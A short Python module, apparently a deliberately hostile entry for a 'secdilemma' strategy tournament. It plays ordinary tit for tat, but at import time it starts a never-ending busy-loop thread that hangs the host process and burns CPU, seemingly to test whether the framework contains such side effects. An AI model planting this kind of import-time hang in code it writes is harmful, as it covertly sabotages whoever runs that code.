"""It starts a thread that goes on when it is done."""

import threading

from secdilemma import RESTRAIN, strategy


def go_on():
    while True:
        pass


threading.Thread(target=go_on).start()


@strategy(school="hostile")
class ThreadsThatGoOn:
    """It plays tit for tat."""

    def begin(self):
        return RESTRAIN

    def respond(self, mind):
        return mind

    def interpret(self, mind, own, seen):
        return seen
